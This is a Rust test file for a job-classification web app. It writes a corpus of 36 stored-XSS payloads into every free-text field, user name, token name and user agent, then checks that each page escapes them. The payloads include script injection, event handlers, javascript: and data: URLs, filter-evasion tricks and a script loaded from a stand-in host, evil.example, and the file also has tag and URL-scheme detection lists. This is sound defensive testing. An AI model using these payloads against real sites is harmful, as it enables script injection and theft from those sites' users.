//! Stored XSS: a corpus of payloads written through every free-text field
//! (position texts, tasks, evidence, comments, questions, HR notes,
//! rationales, profile texts through the admin API, user names and units,
//! token names, the browser's user agent, change requests and answers),
//! then every page that shows them is read: the text is always there,
//! always escaped, and no page holds markup a payload could have made.
//!
//! Whether a browser would run anything (no dialog opens) is the browser
//! suite's part; here the HTML itself is checked.

use jobclass::auth::model::Role;
use reqwest::{Method, StatusCode};
use scraper::{Html, Node};
use serde_json::{Value, json};

use crate::support::actors::Actor;
use crate::support::api::{Api, seed_names, submitted_position};
use crate::support::{TestApp, urlencoded};

/// The corpus: script tags, event handlers, javascript: and data: URLs,
/// SVG and `MathML`, attribute breakouts (both quotes, backticks), closing
/// tags of raw-text elements, template syntax of several engines, entity
/// tricks. At most 200 characters each (the shortest field limit).
pub const PAYLOADS: &[&str] = &[
    "<script>alert('xss-01')</script>",
    "<SCRIPT SRC=//evil.example/xss-02.js></SCRIPT>",
    "<img src=x onerror=alert('xss-03')>",
    "<svg onload=alert('xss-04')>",
    "<svg><script>alert('xss-05')</script></svg>",
    "\"><script>alert('xss-06')</script>",
    "'><img src=x onerror=alert('xss-07')>",
    "\" onmouseover=\"alert('xss-08')\" x=\"",
    "' onfocus='alert(9)' autofocus='xss-09",
    "javascript:alert('xss-10')",
    "<a href=\"javascript:alert('xss-11')\">klik</a>",
    "<iframe src=\"javascript:alert('xss-12')\"></iframe>",
    "<body onload=alert('xss-13')>",
    "<math><mtext></p><script>alert('xss-14')</script>",
    "</textarea><script>alert('xss-15')</script>",
    "</title><script>alert('xss-16')</script>",
    "<style>body{background:url(\"javascript:alert('xss-17')\")}</style>",
    "{{ 7*7 }} xss-18",
    "{% raw %}xss-19{% endraw %}",
    "${7*7} #{7*7} xss-20",
    "<%= 7*7 %> xss-21",
    "&lt;script&gt;alert('xss-22')&lt;/script&gt;",
    "<div style=\"width: expression(alert('xss-23'))\">",
    "<input autofocus onfocus=alert('xss-24')>",
    "<details open ontoggle=alert('xss-25')>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgyNik8L3NjcmlwdD4=\">xss-26",
    "<embed src=\"javascript:alert('xss-27')\">",
    "<base href=\"//evil.example/\">xss-28",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-29')\">",
    "<form action=\"javascript:alert('xss-30')\"><button>x</button></form>",
    "\"><svg/onload=alert(String.fromCharCode(88,83,83))>xss-31",
    "<img src=\"x` `<script>alert('xss-32')</script>\"` `>",
    "\u{202e}<script>alert('xss-33')</script>",
    "<scr<script>ipt>alert('xss-34')</scr</script>ipt>",
    "data:text/html,<script>alert('xss-35')</script>",
    "<a href=\"&#106;avascript:alert('xss-36')\">x</a>",
];

/// Tags no page of ours has, and a payload might make.
const FOREIGN_TAGS: &[&str] = &[
    "iframe", "frame", "object", "embed", "base", "applet", "math", "style", "form-x", "body-x",
];

/// URL attributes that must never carry a script.
const URL_ATTRIBUTES: &[&str] = &["href", "src", "action", "formaction", "xlink:href", "data"];

/// All text of a page: text nodes and attribute values, in order.
fn everything_shown(html: &Html) -> String {
    let mut all = String::new();
    for node in html.tree.nodes() {
        match node.value() {
            Node::Text(text) => all.push_str(text),
            Node::Element(element) => {
                for (_, value) in element.attrs() {
                    all.push('\u{1}');
                    all.push_str(value);
                    all.push('\u{1}');
                }
            }
            _ => {}
        }
    }
    all
}

/// Checks a page against the corpus: no markup a payload could have made,
/// no payload with markup characters verbatim in the source, and each of
/// `shown` readable in the page as the user typed it.
pub fn assert_escaped(source: &str, shown: &[&str], where_: &str) {
    let problems = problems(source, shown);
    assert!(problems.is_empty(), "{where_}: {}", problems.join("; "));
}

/// What is wrong with a page (see `assert_escaped`).
fn problems(source: &str, shown: &[&str]) -> Vec<String> {
    let mut found = Vec::new();
    let html = Html::parse_document(source);
    for node in html.tree.nodes() {
        let Node::Element(element) = node.value() else {
            continue;
        };
        let tag = element.name();
        if FOREIGN_TAGS.contains(&tag) {
            found.push(format!("a <{tag}> element"));
        }
        if tag == "script" && !element.attr("src").unwrap_or("").starts_with("/static/") {
            found.push(format!(
                "a script that is not ours: {:?}",
                element.attr("src")
            ));
        }
        if tag == "meta" && element.attr("http-equiv").is_some() {
            found.push("a <meta http-equiv>".into());
        }
        if tag == "svg" && element.attr("class") != Some("bar-chart") {
            found.push("an <svg> that is not our chart".into());
        }
        for (name, value) in element.attrs() {
            if name.starts_with("on") {
                found.push(format!("an event handler {name}={value:?} on <{tag}>"));
            }
            if (name == "autofocus" || name == "style") && value.contains("xss") {
                found.push(format!("{name} from a payload on <{tag}>"));
            }
            let url = value.trim().to_ascii_lowercase();
            if URL_ATTRIBUTES.contains(&name)
                && ["javascript:", "data:", "vbscript:"]
                    .iter()
                    .any(|scheme| url.starts_with(scheme))
            {
                found.push(format!("{name}={value:?} on <{tag}>"));
            }
        }
    }
    for payload in PAYLOADS {
        if payload.contains(['<', '>', '"', '\'', '&']) && source.contains(payload) {
            found.push(format!("unescaped in the source: {payload}"));
        }
    }
    let text = everything_shown(&html);
    for payload in shown {
        if !text.contains(payload) {
            found.push(format!("the text {payload:?} is not shown as typed"));
        }
    }
    found
}

/// GETs a page as `actor` (200) and checks it.
async fn check(actor: &Actor, path: &str, shown: &[&str]) -> usize {
    let response = actor.get(path).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    let source = response.text().await.unwrap();
    assert_escaped(&source, shown, path);
    1
}

/// Checks a list shown over several pages: each of `shown` on one of them.
async fn check_pages(actor: &Actor, paths: &[&str], shown: &[&str]) -> usize {
    let mut all = String::new();
    for path in paths {
        let response = actor.get(path).await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let source = response.text().await.unwrap();
        assert_escaped(&source, &[], path);
        all.push_str(&everything_shown(&Html::parse_document(&source)));
    }
    for payload in shown {
        assert!(
            all.contains(payload),
            "{paths:?}: {payload:?} is not shown as typed"
        );
    }
    paths.len()
}

async fn check_anonymous(app: &TestApp, path: &str, shown: &[&str]) -> usize {
    let response = app.get(path).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    assert_escaped(&response.text().await.unwrap(), shown, path);
    1
}

/// Renames a user through the admin form (name and unit).
async fn rename(admin: &Actor, id: i64, role: &str, name: &str) {
    let response = admin
        .post(
            &format!("/admin/users/{id}"),
            &[("name", name), ("role", role), ("unit", name)],
        )
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER, "rename to {name}");
}

#[test]
fn the_corpus_has_at_least_thirty_payloads_that_fit_every_field() {
    assert!(PAYLOADS.len() >= 30);
    for payload in PAYLOADS {
        assert!(payload.chars().count() <= 200, "{payload}");
        assert_eq!(payload.trim(), *payload);
        // Everything but the bidi override is printable ASCII.
        assert!(!payload.chars().any(char::is_control));
    }
    // The checker sees an unescaped payload, a made element or handler, a
    // script URL, and a text that is missing.
    let page = |body: &str| format!("<!doctype html><html><head></head><body>{body}</body></html>");
    for bad in [
        page(PAYLOADS[0]),
        page("<p title=\"\" onmouseover=\"alert(1)\">x</p>"),
        page("<a href=\" JavaScript:alert(1)\">x</a>"),
        page("<iframe></iframe>"),
        page("<p>xss</p>"),
    ] {
        assert!(!problems(&bad, &["xss-01"]).is_empty(), "not caught: {bad}");
    }
    let escaped = page("&lt;script&gt;alert(&#39;xss-01&#39;)&lt;/script&gt;");
    assert_eq!(problems(&escaped, &[PAYLOADS[0]]), Vec::<String>::new());
}

/// A decided, shared position per payload, with the payload in every text
/// of it and in the names of the people who worked on it.
#[tokio::test]
async fn payloads_in_positions_comments_and_decisions_are_escaped_on_every_page() {
    let app = TestApp::spawn().await;
    let manager = app.login_as(Role::Manager).await;
    let hr = app.login_as(Role::Hr).await;
    let admin = app.login_as(Role::Admin).await;
    let m = manager.api().await;
    let h = hr.api().await;
    let (_, criteria) = seed_names();
    let mut pages = 0;
    let mut stored = 0;
    for payload in PAYLOADS {
        let id = submitted_position(&m, payload).await;
        let path = |tail: &str| format!("/api/v1/positions/{id}{tail}");
        h.expect(Method::POST, &path("/claim"), None, StatusCode::OK)
            .await;
        h.expect(
            Method::POST,
            &path("/return"),
            Some(&json!({ "message": payload })),
            StatusCode::OK,
        )
        .await;
        // The form again, with every text in its fields and the question.
        pages += check(&manager, &format!("/positions/{id}"), &[payload]).await;
        m.expect(
            Method::POST,
            &path("/comments"),
            Some(&json!({ "body": payload })),
            StatusCode::CREATED,
        )
        .await;
        m.expect(Method::POST, &path("/submit"), None, StatusCode::OK)
            .await;
        h.expect(Method::POST, &path("/claim"), None, StatusCode::OK)
            .await;
        pages += check(&hr, &format!("/review/{id}"), &[payload]).await;
        let decision = json!({
            "level": "C",
            "rationale": format!("{payload} — with a rationale long enough"),
            "hr_placements": [{"criterion": criteria[0], "level": "C", "note": payload}],
        });
        h.expect(
            Method::POST,
            &path("/decision"),
            Some(&decision),
            StatusCode::OK,
        )
        .await;
        let (status, page) = manager
            .post_page(&format!("/positions/{id}/share"), &[])
            .await;
        assert_eq!(status, StatusCode::OK);
        let link = page.value("#share-link");
        // Title, unit, purpose, two tasks, seven evidences, question,
        // answer, rationale, HR note.
        stored += 16;

        // The people's names and units are payloads too, now.
        rename(&admin, manager.user_id, "manager", payload).await;
        rename(&admin, hr.user_id, "hr", payload).await;
        stored += 4;
        pages += check(&manager, &format!("/positions/{id}"), &[payload]).await;
        pages += check(&manager, &format!("/positions/{id}/record"), &[payload]).await;
        pages += check(&hr, &format!("/review/{id}"), &[payload]).await;
        pages += check_anonymous(&app, &link, &[payload]).await;
    }
    // Lists with every payload at once.
    pages += check(&manager, "/positions", PAYLOADS).await;
    // (The queue shows 25 a page.)
    pages += check_pages(
        &hr,
        &["/review?status=decided", "/review?status=decided&page=2"],
        PAYLOADS,
    )
    .await;
    pages += check(&hr, "/review/dashboard", &[]).await;
    pages += check(&admin, "/admin/audit", &[]).await;
    pages += check(&admin, "/admin/users", &[PAYLOADS[PAYLOADS.len() - 1]]).await;
    println!(
        "xss positions: {} payloads, {stored} texts stored, {pages} pages checked",
        PAYLOADS.len()
    );
}

/// A profile document with `payload` in every text (names made unique
/// where the format needs them unique).
fn profile_document(slug: &str, payload: &str) -> Value {
    json!({
        "format": 1,
        "slug": slug,
        "title": payload,
        "language": "nl",
        "purpose": payload,
        "footnote": payload,
        "levels": [
            {"code": "D", "name": format!("{payload} D")},
            {"code": "C", "name": format!("{payload} C")},
        ],
        "result_areas": [
            {"title": format!("{payload} 1"), "mission": payload, "tasks": [payload, format!("{payload} bis")]},
            {"title": format!("{payload} 2"), "mission": payload, "tasks": [payload]},
        ],
        "criteria": [
            {"name": format!("{payload} k1"), "descriptors": {"D": payload, "C": format!("{payload} C")}},
            {"name": format!("{payload} k2"), "descriptors": {"D": payload, "C": payload}},
        ],
        "glossary": [{"term": format!("{payload} term"), "definition": payload}],
    })
}

#[tokio::test]
async fn payloads_in_profile_texts_are_escaped_on_every_page() {
    let app = TestApp::spawn().await;
    let admin = app.login_as(Role::Admin).await;
    let api: Api = admin.api().await;
    let slug = "xss-profiel";
    let mut pages = 0;
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let version = i + 1;
        let draft = format!("/api/v1/profiles/{slug}/draft");
        let mut doc = profile_document(slug, payload);
        let (status, body) = if version == 1 {
            // A new profile: created as a draft through the import form.
            let part = reqwest::multipart::Part::bytes(serde_json::to_vec(&doc).unwrap())
                .file_name("xss.json")
                .mime_str("application/json")
                .unwrap();
            let response = admin
                .upload(
                    "/admin/profiles/import",
                    reqwest::multipart::Form::new().part("document", part),
                )
                .await;
            assert!(
                response.status().is_redirection() || response.status().is_success(),
                "import: {}",
                response.status()
            );
            api.get(&draft).await
        } else {
            api.put(&draft, &doc).await
        };
        assert!(status.is_success(), "draft {version}: {status} {body}");
        let revision = api.get(&draft).await.1["revision"].clone();
        doc["revision"] = revision;
        let (status, body) = api.put(&draft, &doc).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let revision = body["revision"].clone();

        let shown = [*payload];
        pages += check(&admin, &format!("/admin/profiles/{slug}/draft"), &shown).await;
        pages += check(
            &admin,
            &format!("/admin/profiles/{slug}/draft/preview"),
            &shown,
        )
        .await;
        let published = api
            .expect(
                Method::POST,
                &format!("{draft}/publish"),
                Some(&json!({ "change_note": payload, "revision": revision })),
                StatusCode::OK,
            )
            .await;
        assert_eq!(published["version"], version);
        for path in [
            format!("/profiles/{slug}"),
            format!("/profiles/{slug}/versions/{version}"),
            format!("/profiles/{slug}/history"),
            format!(
                "/profiles/{slug}/compare?levels=D,C&criteria={}",
                urlencoded(&format!("{payload} k1"))
            ),
            format!(
                "/compare?profiles={slug},{}&level=C",
                crate::support::api::SLUG
            ),
            format!(
                "/compare?profiles={slug},{}&level=C&diff=full",
                crate::support::api::SLUG
            ),
            "/".to_string(),
        ] {
            pages += check_anonymous(&app, &path, &shown).await;
        }
        if version > 1 {
            pages += check_anonymous(
                &app,
                &format!("/profiles/{slug}/diff?from={}&to={version}", version - 1),
                &shown,
            )
            .await;
        }
        let marker = &payload[payload.find("xss-").unwrap_or(0)..];
        let marker: String = marker
            .chars()
            .take_while(|c| c.is_alphanumeric() || *c == '-')
            .collect();
        if !marker.is_empty() {
            pages += check_anonymous(&app, &format!("/?q={marker}"), &[]).await;
        }
    }
    pages += check(&admin, "/admin/profiles", &[]).await;
    pages += check(&admin, "/admin/audit", &[]).await;
    println!(
        "xss profiles: {} payloads in 21 texts each, {pages} pages checked",
        PAYLOADS.len()
    );
}

#[tokio::test]
async fn payloads_in_names_tokens_user_agents_and_change_requests_are_escaped() {
    let app = TestApp::spawn().await;
    let admin = app.login_as(Role::Admin).await;
    let manager = app.login_as(Role::Manager).await;
    let slug = crate::support::api::SLUG;
    let mut pages = 0;
    let mut agents = 0;
    for (i, payload) in PAYLOADS.iter().enumerate() {
        // An account made by the admin, named and placed by the payload.
        let response = admin
            .post(
                "/admin/users/new",
                &[
                    ("email", &format!("xss{i}@example.be")),
                    ("name", payload),
                    ("role", "manager"),
                    ("unit", payload),
                    ("method", "link"),
                ],
            )
            .await;
        let status = response.status();
        let source = response.text().await.unwrap();
        assert_eq!(status, StatusCode::OK, "create user {payload}");
        assert_escaped(&source, &[], "the one-time link page");
        pages += 1;
        let id: i64 = sqlx::query_scalar("select id from users where email = $1")
            .bind(format!("xss{i}@example.be"))
            .fetch_one(&app.pool)
            .await
            .unwrap();
        pages += check(&admin, &format!("/admin/users/{id}"), &[payload]).await;

        // An API token named by the payload.
        let (status, page) = manager
            .post_page(
                "/account/tokens",
                &[("name", payload), ("expires_days", "")],
            )
            .await;
        assert_eq!(status, StatusCode::OK);
        assert_escaped(&page.source, &[payload], "new token page");
        pages += 1;

        // A change request and its answer.
        let response = manager
            .post(
                &format!("/profiles/{slug}/requests"),
                &[
                    ("part", payload),
                    ("proposal", payload),
                    ("reason", payload),
                ],
            )
            .await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
        let request: i64 = sqlx::query_scalar("select max(id) from change_requests")
            .fetch_one(&app.pool)
            .await
            .unwrap();
        pages += check(&admin, "/admin/requests", &[payload]).await;
        let response = admin
            .post(
                &format!("/admin/requests/{request}/close"),
                &[("answer", payload)],
            )
            .await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
        pages += check(&manager, "/account", &[payload]).await;
    }
    pages += check(&admin, "/admin/users", PAYLOADS).await;
    pages += check(&admin, "/admin/requests?all=1", PAYLOADS).await;
    pages += check(&admin, "/admin/audit", &[]).await;
    pages += check(&manager, "/account", PAYLOADS).await;

    // The browser's user agent is shown in the list of sessions. Sign-in
    // is rate-limited, so a few of the payloads that fit in a header.
    let email = "agent@example.be";
    app.create_user(email, Role::Hr, "").await;
    for payload in PAYLOADS.iter().filter(|p| p.is_ascii()).step_by(7) {
        let client = reqwest::Client::builder()
            .cookie_store(true)
            .redirect(reqwest::redirect::Policy::none())
            .user_agent(*payload)
            .build()
            .unwrap();
        let csrf = crate::support::actors::csrf_of(&client, &app.url("/login")).await;
        let response = client
            .post(app.url("/login"))
            .form(&[
                ("csrf_token", csrf.as_str()),
                ("email", email),
                ("password", crate::support::actors::PASSWORD),
                ("next", ""),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
        let source = client
            .get(app.url("/account"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert_escaped(&source, &[payload], "account sessions");
        pages += 1;
        agents += 1;
    }
    println!(
        "xss names, tokens, agents, requests: {} payloads in 7 texts each, {agents} user agents, {pages} pages checked",
        PAYLOADS.len()
    );
}
